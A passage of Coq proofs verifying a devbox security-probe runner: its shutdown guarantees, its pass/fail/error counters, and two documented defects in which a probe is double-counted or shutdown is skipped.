  destruct (sleep_answer c h 10); cbn.
  - exists []. split; [reflexivity | constructor].
  - constructor.
Qed.

Ltac paused_step :=
  first
    [ apply pause_paused
    | match goal with H : _ |- _ => simple apply H end
    | apply paused_bind;
      [ solve [repeat full_emits_step early_event] | intros ? ] ].

Lemma create_devbox_paused (fuel : nat) (id : string) :
  sat (Full.create_devbox c w fuel id) FullSpecs.paused.
Proof.
  unfold Full.create_devbox. pose proof (wait_for_devbox_early fuel) as W.
  repeat paused_step.
Qed.

Lemma provision_paused (fuel : nat) :
  sat (Full.provision c w fuel) FullSpecs.paused.
Proof.
  unfold Full.provision.
  pose proof check_prerequisites_early as P.
  pose proof (create_blueprint_early fuel) as B.
  pose proof (create_devbox_paused fuel) as D.
  unfold read_file. repeat paused_step.
Qed.

(** ** The probe loop ends and only prints and sends commands *)

Lemma ends_ret {A} (N : event -> Prop) (a : A) : FullSpecs.ends N (ret a).
Proof. intros h. split; [discriminate | constructor]. Qed.

Lemma ends_raise {A} (N : event -> Prop) (e : exn) :
  FullSpecs.ends N (@raise A e).
Proof. intros h. split; [discriminate | constructor]. Qed.

Lemma ends_print (N : event -> Prop) (text : string) :
  N (EvPrint text) -> FullSpecs.ends N (Full.print c text).
Proof.
  intros H h. unfold Full.print.
  destruct (print_answer c h text); cbn; split;
    try discriminate; repeat constructor. exact H.
Qed.

Lemma ends_call {A} (N : event -> Prop) (ask : trace -> answer A)
    (log : answer A -> event) :
  (forall a, N (log a)) -> FullSpecs.ends N (call ask log).
Proof.
  intros H h. unfold call. cbn. split.
  - now destruct (ask h).
  - repeat constructor. apply H.
Qed.

Lemma ends_attempt {A} (N : event -> Prop) (m : M A) :
  FullSpecs.ends N m -> FullSpecs.ends N (attempt m).
Proof.
  intros H h. specialize (H h). unfold attempt.
  destruct (m h) as [[a | e |] E]; cbn in *; split;
    try discriminate; tauto.
Qed.

Lemma ends_bind {A B} (N : event -> Prop) (m : M A) (f : A -> M B) :
  FullSpecs.ends N m -> (forall a, FullSpecs.ends N (f a)) ->
  FullSpecs.ends N (bind m f).
Proof.
  intros Hm Hf.
  apply (sat_bind m f (fun r E => r <> OutOfFuel /\ Forall N E)
           (fun _ r E => r <> OutOfFuel /\ Forall N E)); try assumption.
  - intros a E1 r E2 [_ H1] [H2 H3]. split; [exact H2 | now apply Forall_app].
  - intros e E [_ H]. split; [discriminate | exact H].
  - intros E [H _]. now elim H.
Qed.

Lemma ends_try_except {A} (N : event -> Prop) (m : M A) (k : exn -> M A) :
  FullSpecs.ends N m -> (forall e, FullSpecs.ends N (k e)) ->
  FullSpecs.ends N (try_except m k).
Proof.
  intros Hm Hk.
  apply (sat_try_except m k (fun r E => r <> OutOfFuel /\ Forall N E)
           (fun _ r E => r <> OutOfFuel /\ Forall N E)); try assumption.
  - intros a E [_ H]. split; [discriminate | exact H].
  - intros E [H _]. now elim H.
  - intros e E1 r E2 [_ H1] [H2 H3]. split; [exact H2 | now apply Forall_app].
Qed.

Ltac ends_step tac :=
  first
    [ apply ends_ret
    | apply ends_raise
    | apply ends_print; tac
    | apply ends_call; intros ?; tac
    | apply ends_attempt
    | match goal with H : _ |- _ => simple apply H end
    | apply ends_bind; [|intros ?]
    | apply ends_try_except; [|intros ?]
    | match goal with
      | |- FullSpecs.ends _ (if ?b then _ else _) => destruct b
      | |- FullSpecs.ends _ (match ?x with _ => _ end) => destruct x
      end ].

Ltac probe_kind := first [exact I | split; reflexivity].

Lemma on_error_ends (id : string) (results : Results) (e : exn) :
  FullSpecs.ends (probe_event id) (Full.on_error c results e).
Proof. unfold Full.on_error. repeat ends_step probe_kind. Qed.

Lemma run_test_ends (id : string) (test : Test) (results : Results) :
  FullSpecs.ends (probe_event id) (Full.run_test c w id test results).
Proof.
  unfold Full.run_test. pose proof (on_error_ends id) as H.
  repeat ends_step probe_kind.
Qed.

Lemma run_tests_ends (id : string) (ts : list Test) (results : Results) :
  FullSpecs.ends (probe_event id) (Full.run_tests c w id ts results).
Proof.
  revert results. induction ts as [|t ts IH]; intros results;
    cbn [Full.run_tests]; pose proof (run_test_ends id) as T;
    repeat ends_step probe_kind.
Qed.

Lemma run_categories_ends (id : string) (catalog : Catalog) (results : Results) :
  FullSpecs.ends (probe_event id) (Full.run_categories c w id catalog results).
Proof.
  revert results. induction catalog as [|[key category] catalog IH];
    intros results; cbn [Full.run_categories];
    pose proof (run_tests_ends id) as T;
    repeat ends_step probe_kind.
Qed.

Lemma security_tests_ends (catalog : Catalog) (id : string) :
  FullSpecs.ends (probe_event id) (Full.security_tests c w catalog id).
Proof.
  unfold Full.security_tests. pose proof (run_categories_ends id catalog) as R.
  repeat ends_step probe_kind.
Qed.

(** ** The [finally] block *)

Lemma bind_print_run {B} (text : string) (f : unit -> M B) (h : trace) :
  bind (Full.print c text) f h
  = match print_answer c h text with
    | Returns _ =>
        (fst (f tt (h ++ [EvPrint text])),
         EvPrint text :: snd (f tt (h ++ [EvPrint text])))
    | Raises e => (Raise e, [])
    end.
Proof.
  unfold bind, Full.print. destruct (print_answer c h text) as [[] | e];
    [|reflexivity].
  now destruct (f tt (h ++ [EvPrint text])).
Qed.

Lemma print_run (text : string) (h : trace) :
  Full.print c text h
  = match print_answer c h text with
    | Returns _ => (Done tt, [EvPrint text])
    | Raises e => (Raise e, [])
    end.
Proof. reflexivity. Qed.

(** The block calls [shutdown] once, unless its first [print] raises. *)
Lemma cleanup_run (id : string) (h : trace) :
  (exists e, print_answer c h Full.cleanup_banner = Raises e
             /\ Full.cleanup c w id h = (Raise e, []))
  \/ (print_answer c h Full.cleanup_banner = Returns tt
      /\ exists a post r,
           Full.cleanup c w id h
           = (r, EvPrint Full.cleanup_banner :: EvShutdown id a :: post)
           /\ r <> OutOfFuel
           /\ Forall (fun ev => is_print ev = true) post).
Proof.
  unfold Full.cleanup. rewrite bind_print_run.
  destruct (print_answer c h Full.cleanup_banner) as [[] | e].
  - right. split; [reflexivity|]. rewrite RunFacts.bind_call_run.
    match goal with
    | |- context [devboxes_shutdown w ?hh id] =>
        exists (devboxes_shutdown w hh id);
        destruct (devboxes_shutdown w hh id) as [[] | e]
    end.
    + rewrite print_run.
      match goal with
      | |- context [print_answer c ?hh ?t] => destruct (print_answer c hh t)
      end.
      * eexists [_], _. split; [reflexivity|].
        split; [discriminate | repeat constructor].
      * eexists [], _. split; [reflexivity|].
        split; [discriminate | constructor].
    + eexists [], _. split; [reflexivity|]. split; [discriminate | constructor].
  - left. exists e. split; reflexivity.
Qed.

End Any.

(** ** Shutdowns of a run *)

Lemma early_events (E : trace) :
  Forall FullSpecs.early E ->
  count is_shutdown E = 0%nat /\ ~ Full.try_entered E.
Proof.
  intros H. split.
  - apply count_none. eapply Forall_impl; [|exact H]. now intros ev (_ & H1 & _).
  - intros Hin. rewrite Forall_forall in H. now destruct (H _ Hin) as (_ & _ & H2).
Qed.

Lemma probe_events_apart (id : string) (E : trace) :
  Forall (probe_event id) E ->
  count is_shutdown E = 0%nat /\ ~ Full.try_entered E.
Proof.
  intros H. split.
  - apply count_none. now apply (probe_event_not_shutdown id).
  - intros Hin. rewrite Forall_forall in H. exact (H _ Hin).
Qed.

Lemma prints_apart (E : trace) :
  Forall (fun ev => is_print ev = true) E ->
  count is_shutdown E = 0%nat /\ ~ Full.try_entered E.
Proof.
  intros H. split.
  - apply count_none. eapply Forall_impl; [|exact H]. now intros [].
  - intros Hin. rewrite Forall_forall in H. specialize (H _ Hin). discriminate.
Qed.

(** The [try ... finally] of lines 292-397: the block either calls
    [shutdown] once, or its first [print] raises and it calls nothing. *)
Lemma guarded_run (c : Console) (w : World) (catalog : Catalog) (id : string)
    (h : trace) :
  let r := fst (try_finally (Full.security_tests c w catalog id)
                  (Full.cleanup c w id) h) in
  let E := snd (try_finally (Full.security_tests c w catalog id)
                  (Full.cleanup c w id) h) in
  ~ Full.try_entered E
  /\ ((count is_shutdown E = 1%nat /\ r <> OutOfFuel)
      \/ (count is_shutdown E = 0%nat
          /\ exists h' e, print_answer c h' Full.cleanup_banner = Raises e
                          /\ r = Raise e)).
Proof.
  unfold try_finally.
  destruct (security_tests_ends c w catalog id h) as [Hr HE].
  destruct (Full.security_tests c w catalog id h) as [r2 E2]. cbn [fst snd] in *.
  destruct (probe_events_apart id E2 HE) as [C2 N2].
  assert (G : forall r : outcome Results, r <> OutOfFuel ->
            let r' := fst (let '(r3, E3) := Full.cleanup c w id (h ++ E2) in
                           (match r3 with
                            | Done _ => r | Raise e => Raise e | OutOfFuel => OutOfFuel
                            end, E2 ++ E3)) in
            let E := snd (let '(r3, E3) := Full.cleanup c w id (h ++ E2) in
                           (match r3 with
                            | Done _ => r | Raise e => Raise e | OutOfFuel => OutOfFuel
                            end, E2 ++ E3)) in
            ~ Full.try_entered E
            /\ ((count is_shutdown E = 1%nat /\ r' <> OutOfFuel)
                \/ (count is_shutdown E = 0%nat
                    /\ exists h' e, print_answer c h' Full.cleanup_banner = Raises e
                                    /\ r' = Raise e))).
  { intros r Hne.
    destruct (cleanup_run c w id (h ++ E2))
      as [(e & He & ->) | (_ & a & post & r3 & -> & H3 & Hp)]; cbn [fst snd].
    - rewrite app_nil_r. split; [exact N2|]. right. split; [exact C2|].
      now exists (h ++ E2), e.
    - destruct (prints_apart post Hp) as [C3 N3]. split.
      + unfold Full.try_entered. rewrite in_app_iff. cbn [In].
        intros [H | [H | [H | H]]]; try discriminate; [now apply N2 | now apply N3].
      + left. split.
        * rewrite count_app, C2. unfold count. cbn [filter is_shutdown List.length].
          fold (count is_shutdown post). now rewrite C3.
        * destruct r3; [exact Hne | discriminate | now elim H3]. }
  destruct r2 as [results | e |].
  - apply (G (Done results)). discriminate.
  - apply (G (Raise e)). discriminate.
  - now elim Hr.
Qed.

(** A run: at most one [shutdown], none unless the [try] was entered,
    and then the [finally] block as above. *)
Lemma main_shutdowns (c : Console) (w : World) (catalog : Catalog)
    (fuel : nat) (h : trace) :
  let r := fst (Full.main_on c w catalog fuel h) in
  let E := snd (Full.main_on c w catalog fuel h) in
  (count is_shutdown E <= 1)%nat
  /\ (~ Full.try_entered E -> count is_shutdown E = 0%nat)
  /\ (Full.try_entered E ->
      (count is_shutdown E = 1%nat /\ r <> OutOfFuel)
      \/ (count is_shutdown E = 0%nat
          /\ exists h' e, print_answer c h' Full.cleanup_banner = Raises e
                          /\ r = Raise e)).
Proof.
  unfold Full.main_on, bind.
  pose proof (provision_paused c w fuel h) as P.
  destruct (Full.provision c w fuel h) as [[id | e |] E1]; cbn [fst snd] in *.
  - destruct P as (pre & -> & P). destruct (early_events pre P) as [C1 N1].
    pose proof (guarded_run c w catalog id (h ++ pre ++ [EvSleep 10])) as G.
    destruct (try_finally (Full.security_tests c w catalog id)
                (Full.cleanup c w id) (h ++ pre ++ [EvSleep 10])) as [r E].
    cbn [fst snd] in *. destruct G as [N G].
    assert (T : Full.try_entered ((pre ++ [EvSleep 10]) ++ E)).
    { unfold Full.try_entered. rewrite !in_app_iff. left. right. now left. }
    rewrite !count_app, C1.
    change (count is_shutdown [EvSleep 10]) with 0%nat. cbn [Nat.add].
    split; [destruct G as [[-> _] | [-> _]]; lia|].
    split; [intros H; now elim H|]. intros _. exact G.
  - destruct (early_events E1 P) as [C1 N1]. rewrite C1.
    split; [lia|]. split; [auto | intros H; now elim N1].
  - destruct (early_events E1 P) as [C1 N1]. rewrite C1.
    split; [lia|]. split; [auto | intros H; now elim N1].
Qed.

(** ** One probe on any console *)

Section Probe.
Variable c : Console.
Variable w : World.

Lemma bind_attempt_call_run {A B} (ask : trace -> answer A)
    (log : answer A -> event) (f : answer A -> M B) (h : trace) :
  bind (attempt (call ask log)) f h
  = (fst (f (ask h) (h ++ [log (ask h)])),
     log (ask h) :: snd (f (ask h) (h ++ [log (ask h)]))).
Proof.
  unfold bind, attempt, call.
  destruct (ask h) as [x | e]; now destruct (f _ _).
Qed.

(** The handlers: two lines and one more error, unless a line cannot be
    written; what is not of class [Exception] goes through untouched. *)
Lemma on_error_run (results : Results) (e : exn) (h : trace) :
  if is_Exception e
  then exists Q,
         Paths.all_prints Q
         /\ (Full.on_error c results e h
             = (Done (incr Errored results), Q ++ [FullSpecs.result_line Errored])
             \/ exists e', Full.on_error c results e h = (Raise e', Q)
                           /\ FullSpecs.print_raised c e')
  else Full.on_error c results e h = (Raise e, []).
Proof.
  destruct e as [| msg | msg | code]; cbn [is_Exception Full.on_error];
    try reflexivity.
  all: rewrite bind_print_run;
    match goal with
    | |- context [print_answer c ?hh ?t] =>
        destruct (print_answer c hh t) as [[] | e1] eqn:H1
    end;
    [ rewrite bind_print_run;
      match goal with
      | |- context [print_answer c ?hh "       Result: [ERROR]"] =>
          destruct (print_answer c hh "       Result: [ERROR]") as [[] | e2] eqn:H2
      end
    | ].
  all: try solve [ eexists [_]; split; [|left; reflexivity]; repeat constructor ].
  all: try solve [ eexists [_]; split;
                   [|right; eexists; split; [reflexivity | eexists _, _; exact H2]];
                   repeat constructor ].
  all: exists []; split; [constructor|]; right;
       eexists; split; [reflexivity | eexists _, _; exact H1].
Qed.

(** Three lines in a row. *)
Lemma report_run {A} (t1 t2 t3 : string) (x : A) (h : trace) :
  bind (Full.print c t1)
    (fun _ => bind (Full.print c t2)
                (fun _ => bind (Full.print c t3) (fun _ => ret x))) h
  = (Done x, [EvPrint t1; EvPrint t2; EvPrint t3])
  \/ exists e P,
       bind (Full.print c t1)
         (fun _ => bind (Full.print c t2)
                     (fun _ => bind (Full.print c t3) (fun _ => ret x))) h
       = (Raise e, P)
       /\ Paths.all_prints P
       /\ exists h' text,
            In text [t1; t2; t3] /\ print_answer c h' text = Raises e.
Proof.
  rewrite bind_print_run.
  destruct (print_answer c h t1) as [[] | e1] eqn:H1.
  - rewrite bind_print_run.
    destruct (print_answer c (h ++ [EvPrint t1]) t2) as [[] | e2] eqn:H2.
    + rewrite bind_print_run.
      destruct (print_answer c ((h ++ [EvPrint t1]) ++ [EvPrint t2]) t3)
        as [[] | e3] eqn:H3.
      * left. reflexivity.
      * right. exists e3. eexists [_; _].
        split; [reflexivity | split; [repeat constructor|]].
        eexists _, t3. split; [cbn; tauto | exact H3].
    + right. exists e2. eexists [_].
      split; [reflexivity | split; [repeat constructor|]].
      eexists _, t2. split; [cbn; tauto | exact H2].
  - right. exists e1, [].
    split; [reflexivity | split; [constructor|]].
    eexists _, t1. split; [cbn; tauto | exact H1].
Qed.

Lemma probe_run_after_print (id : string) (test : Test) (results : Results)
    (text : string) (k : M Results) :
  sat k (FullSpecs.probe_run c id test results) ->
  sat (bind (Full.print c text) (fun _ => k))
      (FullSpecs.probe_run c id test results).
Proof.
  intros H h. rewrite bind_print_run.
  destruct (print_answer c h text) as [[] | e] eqn:H1; cbn [fst snd].
  - destruct (H (h ++ [EvPrint text]))
      as [(HP & e & -> & He) | (a & P & Q & -> & HP & HQ & Ha)].
    + left. split; [now constructor | now exists e].
    + right. exists a, (EvPrint text :: P), Q.
      split; [reflexivity | split; [now constructor | now split]].
  - left. split; [constructor|]. exists e. split; [reflexivity|].
    now exists h, text.
Qed.

(** Every probe runs as [probe_run] says. *)
Lemma run_test_probe_run (id : string) (test : Test) (results : Results) :
  sat (Full.run_test c w id test results)
      (FullSpecs.probe_run c id test results).
Proof.
  unfold Full.run_test. do 3 apply probe_run_after_print.
  intros h. rewrite bind_attempt_call_run. cbn [fst snd].
  right.
  exists (devboxes_execute_sync w h id (command test) 30), [].
  destruct (devboxes_execute_sync w h id (command test) 30) as [result | e];
    cbn [FullSpecs.after_call].
  - unfold try_except.
    match goal with
    | |- context [bind (Full.print c ?t1) ?k ?hh] =>
        destruct (report_run t1 ("       Exit code: " ++ str_of_int (exit_status result))
                    ("       Result: ["
                     ++ (if Classifier.passed_on (expect test)
                              (Classifier.output result) (exit_status result)
                         then "PASS" else "FAIL") ++ "]")
                    (incr (if Classifier.passed_on (expect test)
                                (Classifier.output result) (exit_status result)
                           then Passed else Failed) results) hh)
          as [R | (e & P & R & HP & He)]
    end; rewrite R; clear R; cbn [fst snd].
    + eexists. split; [reflexivity|]. split; [constructor|].
      split; [repeat constructor|]. left. split; [reflexivity|].
      eexists [_; _]. unfold FullSpecs.result_line, Classifier.verdict, Classifier.passed.
      now destruct (Classifier.passed_on _ _ _).
    + match goal with
      | |- context [Full.on_error c ?rs e ?hh] =>
          pose proof (on_error_run rs e hh) as O
      end.
      assert (He' : FullSpecs.print_raised c e).
      { destruct He as (h' & text & _ & He). now exists h', text. }
      destruct (is_Exception e) eqn:Hx.
      * destruct O as (Q & HQ & [O | (e'0 & O & He'0)]); rewrite O; cbn [fst snd].
        -- eexists. split; [reflexivity|]. split; [constructor|].
           split; [apply Forall_app; split; [exact HP|];
                   apply Forall_app; split; [exact HQ | repeat constructor]|].
           right. left. split; [reflexivity|]. split.
           ++ exists (P ++ Q). now rewrite app_assoc.
           ++ exists e. split; [exact Hx | exact He].
        -- eexists. split; [reflexivity|]. split; [constructor|].
           split; [apply Forall_app; now split|].
           right. right. now exists e'0.
      * rewrite O. cbn [fst snd]. eexists. split; [reflexivity|].
        split; [constructor|]. split; [now rewrite app_nil_r|].
        right. right. now exists e.
  - pose proof (on_error_run results e
                  (h ++ [EvExecuteSync id (command test) 30 (Raises e)])) as O.
    destruct (is_Exception e) eqn:Hx.
    + destruct O as (Q & HQ & [O | (e' & O & He')]); rewrite O; cbn [fst snd].
      * eexists. split; [reflexivity|]. split; [constructor|].
        split; [apply Forall_app; split; [exact HQ | repeat constructor]|].
        left. split; [reflexivity|]. now exists Q.
      * eexists. split; [reflexivity|]. split; [constructor|].
        split; [exact HQ|]. right. now exists e'.
    + rewrite O. cbn [fst snd]. eexists. split; [reflexivity|].
      split; [constructor|]. split; [constructor|]. now split.
Qed.

End Probe.

(** ** The counters of the probe loop on any console *)

Lemma combine_app_same {A B} (l1 l2 : list A) (k1 k2 : list B) :
  List.length k1 = List.length l1 ->
  combine (l1 ++ l2) (k1 ++ k2) = combine l1 k1 ++ combine l2 k2.
Proof.
  revert k1. induction l1 as [|x l1 IH]; intros [|y k1] H; try discriminate.
  - reflexivity.
  - cbn. f_equal. apply IH. now injection H.
Qed.

Lemma no_execute_no_answer (E : trace) :
  Forall (fun ev => is_execute ev = false) E ->
  Events.answers E = [] /\ count Events.is_raised E = 0%nat.
Proof.
  induction 1 as [|ev E H _ [IH1 IH2]]; [now split|].
  destruct ev; try discriminate; now split.
Qed.

Lemma counted_silent_before (ts : list Test) (results : Results)
    (r : outcome Results) (P E : trace) :
  Forall (fun ev => is_execute ev = false) P ->
  FullSpecs.counted ts results r E ->
  FullSpecs.counted ts results r (P ++ E).
Proof.
  intros HP H. destruct r as [results' | |]; [|exact I ..].
  destruct (no_execute_no_answer P HP) as [A C].
  unfold FullSpecs.counted in *.
  now rewrite ProbeFacts.answers_app, A, count_app, C.
Qed.

Lemma counted_silent_after (ts : list Test) (results : Results)
    (r : outcome Results) (E P : trace) :
  Forall (fun ev => is_execute ev = false) P ->
  FullSpecs.counted ts results r E ->
  FullSpecs.counted ts results r (E ++ P).
Proof.
  intros HP H. destruct r as [results' | |]; [|exact I ..].
  destruct (no_execute_no_answer P HP) as [A C].
  unfold FullSpecs.counted in *.
  now rewrite ProbeFacts.answers_app, A, count_app, C, app_nil_r, Nat.add_0_r.
Qed.

Lemma counted_app (ts1 ts2 : list Test) (results results1 : Results)
    (r : outcome Results) (E1 E2 : trace) :
  FullSpecs.counted ts1 results (Done results1) E1 ->
  FullSpecs.counted ts2 results1 r E2 ->
  FullSpecs.counted (ts1 ++ ts2) results r (E1 ++ E2).
Proof.
  intros (L1 & P1 & F1 & R1 & U1) H. destruct r as [results2 | |]; [|exact I ..].
  destruct H as (L2 & P2 & F2 & R2 & U2). unfold FullSpecs.counted.
  rewrite ProbeFacts.answers_app, combine_app_same, !filter_app, !length_app,
    count_app by exact L1.
  rewrite L1, L2. repeat split; lia.
Qed.

Lemma counted_nil (results : Results) :
  FullSpecs.counted [] results (Done results) [].
Proof. cbn. repeat split; lia. Qed.

Lemma prints_no_execute (P : trace) :
  Paths.all_prints P -> Forall (fun ev => is_execute ev = false) P.
Proof. apply Forall_impl. now intros []. Qed.

Lemma probe_run_counted (c : Console) (id : string) (test : Test)
    (results : Results) (r : outcome Results) (E : trace) :
  FullSpecs.probe_run c id test results r E ->
  FullSpecs.counted [test] results r E.
Proof.
  intros [(_ & e & -> & _) | (a & P & Q & -> & HP & HQ & Ha)]; [exact I|].
  apply counted_silent_before; [now apply prints_no_execute|].
  change (EvExecuteSync id (command test) 30 a :: Q)
    with ([EvExecuteSync id (command test) 30 a] ++ Q).
  apply counted_silent_after; [now apply prints_no_execute|].
  destruct a as [result | e]; cbn [FullSpecs.after_call] in Ha.
  - destruct Ha as [[-> _] | [(-> & _) | (e & -> & _)]]; [| |exact I];
      cbn; unfold Events.scored, Classifier.verdict; cbn [fst snd];
      destruct (Classifier.passed test result); cbn; repeat split; lia.
  - destruct (is_Exception e).
    + destruct Ha as [[-> _] | (e' & -> & _)]; [|exact I].
      cbn. repeat split; lia.
    + now destruct Ha as [-> _].
Qed.

Section Loop.
Variable c : Console.
Variable w : World.

Lemma counted_after_print (ts : list Test) (results : Results) (text : string)
    (k : M Results) :
  sat k (FullSpecs.counted ts results) ->
  sat (bind (Full.print c text) (fun _ => k)) (FullSpecs.counted ts results).
Proof.
  intros H h. rewrite bind_print_run.
  destruct (print_answer c h text) as [[] | e]; [|exact I]. cbn [fst snd].
  apply (counted_silent_before ts results _ [EvPrint text]);
    [now repeat constructor | apply H].
Qed.

Lemma run_tests_counted (id : string) (ts : list Test) (results : Results) :
  sat (Full.run_tests c w id ts results) (FullSpecs.counted ts results).
Proof.
  revert results. induction ts as [|t ts IH]; intros results.
  - apply sat_ret, counted_nil.
  - cbn [Full.run_tests].
    apply (sat_bind _ _ (FullSpecs.counted [t] results)
             (fun results1 => FullSpecs.counted ts results1)).
    + intros h. apply (probe_run_counted c id), run_test_probe_run.
    + exact IH.
    + intros a E1 r E2 H1 H2. exact (counted_app [t] ts _ _ _ _ _ H1 H2).
    + now intros.
    + now intros.
Qed.

Lemma run_categories_counted (id : string) (catalog : Catalog)
    (results : Results) :
  sat (Full.run_categories c w id catalog results)
      (FullSpecs.counted (all_tests catalog) results).
Proof.
  revert results. induction catalog as [|[key category] catalog IH];
    intros results.
  - apply sat_ret, counted_nil.
  - cbn [Full.run_categories]. do 4 apply counted_after_print.
    change (all_tests ((key, category) :: catalog))
      with (tests category ++ all_tests catalog).
    apply (sat_bind _ _ (FullSpecs.counted (tests category) results)
             (fun results1 => FullSpecs.counted (all_tests catalog) results1)).
    + apply run_tests_counted.
    + exact IH.
    + intros a E1 r E2 H1 H2. exact (counted_app _ _ _ _ _ _ _ H1 H2).
    + now intros.
    + now intros.
Qed.

(** The summary: four lines, and the counters go through unchanged. *)
Lemma summary_run (results : Results) :
  sat (bind (Full.print c (nl ++ rule))
         (fun _ => bind (Full.print c "  SUMMARY")
            (fun _ => bind (Full.print c rule)
               (fun _ => bind (Full.print c (summary_text results))
                  (fun _ => ret results)))))
      (fun r E => Paths.all_prints E /\ forall x, r = Done x -> x = results).
Proof.
  intros h.
  repeat (rewrite bind_print_run;
          match goal with
          | |- context [print_answer c ?hh ?t] =>
              destruct (print_answer c hh t) as [[] | ?]
          end; cbn [fst snd ret];
          [|split; [repeat constructor | discriminate]]).
  split; [repeat constructor | now intros x [= <-]].
Qed.

Lemma security_tests_counted (catalog : Catalog) (id : string) :
  sat (Full.security_tests c w catalog id)
      (FullSpecs.counted (all_tests catalog) (mkResults 0 0 0)).
Proof.
  unfold Full.security_tests.
  apply (sat_bind _ _ (FullSpecs.counted (all_tests catalog) (mkResults 0 0 0))
           (fun results r E =>
              Paths.all_prints E /\ forall x, r = Done x -> x = results)).
  - apply run_categories_counted.
  - apply summary_run.
  - intros a E1 r E2 H1 [H2 H3].
    destruct r as [x | e |]; [|exact I ..].
    rewrite (H3 x eq_refl).
    apply counted_silent_after; [now apply prints_no_execute | exact H1].
  - now intros.
  - now intros.
Qed.

(** The counters that a run returns. *)
Lemma main_on_counted (catalog : Catalog) (fuel : nat) (h : trace)
    (results : Results) :
  fst (Full.main_on c w catalog fuel h) = Done results ->
  FullSpecs.counted (all_tests catalog) (mkResults 0 0 0) (Done results)
    (snd (Full.main_on c w catalog fuel h)).
Proof.
  unfold Full.main_on, bind.
  pose proof (provision_paused c w fuel h) as P.
  destruct (Full.provision c w fuel h) as [[id | e |] E1]; cbn [fst snd] in *;
    try discriminate.
  destruct P as (pre & -> & P).
  unfold try_finally.
  pose proof (security_tests_counted catalog id (h ++ pre ++ [EvSleep 10])) as T.
  destruct (Full.security_tests c w catalog id (h ++ pre ++ [EvSleep 10]))
    as [r2 E2]. cbn [fst snd] in T.
  assert (G : forall E3 r3,
            Full.cleanup c w id ((h ++ pre ++ [EvSleep 10]) ++ E2) = (r3, E3) ->
            Forall (fun ev => is_execute ev = false) E3).
  { intros E3 r3 H3.
    destruct (cleanup_run c w id ((h ++ pre ++ [EvSleep 10]) ++ E2))
      as [(e & _ & H) | (_ & a & post & r & H & _ & Hp)];
      rewrite H in H3; injection H3 as <- <-; [constructor|].
    repeat constructor. now apply prints_no_execute. }
  assert (S : Forall (fun ev => is_execute ev = false) (pre ++ [EvSleep 10])).
  { apply Forall_app. split; [|now repeat constructor].
    eapply Forall_impl; [|exact P]. now intros ev [H _]. }
  destruct r2 as [x | e |]; [| |discriminate];
    destruct (Full.cleanup c w id ((h ++ pre ++ [EvSleep 10]) ++ E2))
      as [[[] | e3 |] E3] eqn:H3; cbn [fst snd]; try discriminate.
  intros [= ->]. apply counted_silent_before; [exact S|].
  apply counted_silent_after; [exact (G E3 _ eq_refl) | exact T].
Qed.

End Loop.

(** ** The sum of the counters *)

(** Every answer is scored as passed, scored as failed, or raised. *)
Lemma answers_partition (E : trace) (ts : list Test) :
  List.length (Events.answers E) = List.length ts ->
  (List.length (filter (Events.scored true) (combine ts (Events.answers E)))
   + List.length (filter (Events.scored false) (combine ts (Events.answers E)))
   + count Events.is_raised E)%nat
  = List.length ts.
Proof.
  revert ts. induction E as [|ev E IH]; intros ts H.
  - destruct ts; [reflexivity | discriminate].
  - destruct ev; try exact (IH ts H).
    destruct ts as [|t ts]; [discriminate|].
    cbn in H. injection H as H. specialize (IH ts H).
    change (Events.answers (EvExecuteSync id command_ timeout a :: E))
      with (a :: Events.answers E).
    cbn [combine]. unfold count in *.
    rewrite !ProbeFacts.filter_length_cons.
    unfold Events.scored at 1 3. cbn [fst snd Events.is_raised].
    destruct a as [result | e]; [destruct (Classifier.passed t result)|];
      cbn [Bool.eqb List.length]; lia.
Qed.

(** The counters of a loop that returned add up to the number of tests
    plus the errors that no failed call accounts for; on a console that
    never raises there are none. *)
Lemma security_tests_total (c : Console) (w : World) (catalog : Catalog)
    (id : string) (h : trace) (results : Results) :
  fst (Full.security_tests c w catalog id h) = Done results ->
  (total results
   = Z.of_nat (List.length (all_tests catalog))
     + (errors results
        - Z.of_nat (count Events.is_raised
                      (snd (Full.security_tests c w catalog id h)))))%Z
  /\ (0 <= errors results
           - Z.of_nat (count Events.is_raised
                         (snd (Full.security_tests c w catalog id h))))%Z
  /\ (Full.quiet c -> total results = Z.of_nat (List.length (all_tests catalog))).
Proof.
  intros H. pose proof (security_tests_counted c w catalog id h) as T.
  rewrite H in T. destruct T as (L & Hp & Hf & H1 & H2).
  pose proof (answers_partition _ _ L) as A.
  cbn [passed failed errors] in *. unfold total.
  split; [lia|]. split; [lia|].
  intros Q. revert H. rewrite (security_tests_quiet c w Q). intros H.
  destruct (RunFacts.security_tests_looped w catalog id h) as (_ & _ & D & _).
  destruct (D results H) as (vs & Lv & -> & _).
  fold (total (fold_left (fun rs v => incr v rs) vs (mkResults 0 0 0))).
  now rewrite RunFacts.total_fold, Lv.
Qed.

End FullFacts.

(* ===================================================================== *)
(** * The counters, probe errors and teardown on any console *)
(* ===================================================================== *)

Import Events Paths.

(** C4.  The code breaks the rule of one counter per probe.  Line 340
    raises [passed] or [failed] before the prints of lines 342-344, which
    are inside the same [try]; when one of these prints raises an
    exception of class [Exception], the handler of lines 350-353 raises
    [errors] too.  On standard output that takes ASCII only, with a
    devbox whose [ls -la /home] shows a name with an accented letter, the
    probe "List files" is counted as passed and as an error: the loop
    returns 13 + 7 + 1 = 21 for the 20 probes of the catalog, after 20
    commands. *)
Theorem C4_failed_print_counts_a_probe_twice :
  fst (Full.run_test Consoles.console_ascii Consoles.world_accent "dbx_1"
         (mkTest "List files" "ls -la /home" "success" "File listing")
         (mkResults 0 0 0) [])
  = Done (mkResults 1 0 1)
  /\ fst (Full.security_tests Consoles.console_ascii Consoles.world_accent
            SECURITY_TESTS "dbx_1" [])
     = Done (mkResults 13 7 1)
  /\ total (mkResults 13 7 1) = 21%Z
  /\ List.length (all_tests SECURITY_TESTS) = 20%nat
  /\ count is_execute
       (snd (Full.security_tests Consoles.console_ascii Consoles.world_accent
               SECURITY_TESTS "dbx_1" []))
     = 20%nat
  /\ count is_raised
       (snd (Full.security_tests Consoles.console_ascii Consoles.world_accent
               SECURITY_TESTS "dbx_1" []))
     = 0%nat.
Proof.
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [reflexivity|].
  split; [reflexivity|].
  split; vm_compute; reflexivity.
Qed.



(** C6 does not hold as stated.  The poll that answers "running" is
    followed by two prints and the pause of line 287, all before the
    [try] of line 292: a run that is cancelled during that pause has seen
    the devbox running and never calls [shutdown].  Inside the [finally]
    block the [print] of line 395 comes before the [shutdown]: when
    standard output is gone by then, the block is left at that line, and
    again nothing is shut down. *)
Lemma C6_cancelled_pause_skips_shutdown :
  (reached_running
